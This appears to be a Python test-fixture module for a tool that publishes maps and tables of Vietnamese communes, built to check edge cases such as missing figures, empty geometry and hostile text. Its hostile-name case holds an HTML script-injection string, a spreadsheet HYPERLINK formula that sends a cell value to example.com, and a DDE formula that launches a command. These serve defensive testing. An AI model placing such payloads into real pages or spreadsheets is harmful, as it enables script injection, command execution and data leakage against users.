"""Runs that go wrong where they can: names made to break a page, and figures of which nothing can be said."""

from __future__ import annotations

from dataclasses import replace

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from geontm.publish import Content
from publish_samples import CODES, sample_content

BREAKING = '</script><script>window.hit=1</script><img src=x onerror="window.hit=2"><!--'
LINK = '=HYPERLINK("http://example.com/?"&A1,"bấm")'
TURNED = "Xã \u202eAN\u2066 Trái\u200f"  # marks that turn the direction of writing, never turned back
LONG = "Xã " + "Rất Dài " * 62  # 499 characters
FACES = "Xã 🏞️👩🏽‍🌾 Núi"
CONTROL = "Xã\x00 Có\x07 Phím\x0b \x1b[31mLạ\x1f\ufffe\uffff"
NAMES = (BREAKING, LINK, TURNED, LONG, FACES, CONTROL)
PROVINCES = ("Tỉnh <b>&amp;</b>\x01", '+cmd|"/C calc"!A0')


def hostile_names() -> Content:
    """Return the sample with every text from a file as bad as text can be."""
    base = sample_content()
    units = base.units.assign(
        commune_name=list(NAMES), province_name=[PROVINCES[0]] * 3 + [PROVINCES[1]] * 3, kind=["xã"] * 6
    )
    said = [f"{name} không có số liệu." for name in NAMES]
    verdicts = base.verdicts.assign(reason_vi=said, reason_en=said, article=CONTROL, value=LINK, threshold=BREAKING)
    indicators = base.indicators.assign(source_file=f"{LINK}\x00.xlsx")
    issues = tuple(replace(issue, file=CONTROL, value=BREAKING) for issue in base.issues)
    return replace(base, title=BREAKING, units=units, verdicts=verdicts, indicators=indicators, issues=issues)


def all_equal() -> Content:
    """Return the sample with one and the same figure everywhere."""
    return _with_figures(20.0)


def all_zero() -> Content:
    """Return the sample with nought everywhere: known, and not unknown."""
    return _with_figures(0.0)


def all_missing() -> Content:
    """Return the sample without any figure, verdict or score."""
    base = sample_content()
    wide = base.wide.assign(**{name: pd.array([None] * 6, dtype=base.wide[name].dtype) for name in base.wide})
    verdicts = base.verdicts.assign(answer="unknown", value=pd.NA)
    scores = base.scores.assign(met=0, not_met=0, unknown=1)
    priority = base.priority.assign(priority_score=pd.array([None] * 6, dtype="Float64"))
    return replace(
        base, wide=wide, indicators=base.indicators.iloc[:0], verdicts=verdicts, scores=scores, priority=priority
    )


def nothing_drawn() -> Content:
    """Return the sample without a single outline."""
    base = sample_content()
    return replace(base, units=base.units.set_geometry(gpd.GeoSeries([None] * 6, base.units.index, crs=4326)))


def one_commune() -> Content:
    """Return the first unit of the sample alone."""
    return only(sample_content(), CODES[:1])


def no_commune() -> Content:
    """Return the sample without a unit."""
    return only(sample_content(), [])


def same_names() -> Content:
    """Return the sample with one name for all units."""
    base = sample_content()
    return replace(base, units=base.units.assign(commune_name="Xã Tân Tiến", province_name="Tỉnh Một"))


def only(base: Content, codes: list[str]) -> Content:
    """Return a content with some of its units."""
    long = {
        name: table[table["commune_code"].isin(codes)]
        for name in ("indicators", "verdicts", "scores")
        for table in [getattr(base, name)]
    }
    return replace(
        base, units=base.units.loc[codes], wide=base.wide.loc[codes], priority=base.priority.loc[codes], **long
    )


def many(n: int) -> Content:
    """Return a run of n small squares in 60 provinces, with a gap and a long name here and there."""
    base, side = sample_content(), int(np.ceil(np.sqrt(n)))
    k = np.arange(n)
    x, y, step = 103 + k % side * 0.05, 9 + k // side * 0.1, (0.05, 0.1)
    units = gpd.GeoDataFrame(
        {
            "commune_name": [f"Xã {number}" if number % 97 else NAMES[number // 97 % 6] for number in k],
            "kind": "xã",
            "province_code": [f"{number * 60 // n + 1:02d}" for number in k],
            "province_name": [f"Tỉnh {number * 60 // n + 1}" for number in k],
            "area_km2": pd.array([50.0] * n, dtype="Float64"),
        },
        geometry=shapely.box(x, y, x + step[0], y + step[1]),
        index=pd.Index([f"{number:05d}" for number in k], name="commune_code"),
        crs=4326,
    )
    poor = pd.array(k * 37 % 1000 / 10, dtype="Float64")
    poor[k % 31 == 0] = pd.NA
    wide = pd.DataFrame({"poor_household_pct": poor, "clean_water_pct": poor}, index=units.index)
    empty = {name: getattr(base, name).iloc[:0] for name in ("indicators", "verdicts", "scores", "priority")}
    return replace(base, units=units, wide=wide, **empty)


def _with_figures(value: float) -> Content:
    base = sample_content()
    numbers = [name for name in base.wide if base.wide[name].dtype in ("Int64", "Float64")]
    wide = base.wide.assign(
        **{name: pd.array([value] * 6, dtype="Float64").astype(base.wide[name].dtype) for name in numbers}
    )
    return replace(base, wide=wide, indicators=base.indicators.assign(value=value))


CASES = {
    "hostile names": hostile_names,
    "all equal": all_equal,
    "all zero": all_zero,
    "all missing": all_missing,
    "nothing drawn": nothing_drawn,
    "one commune": one_commune,
    "no commune": no_commune,
    "same names": same_names,
}
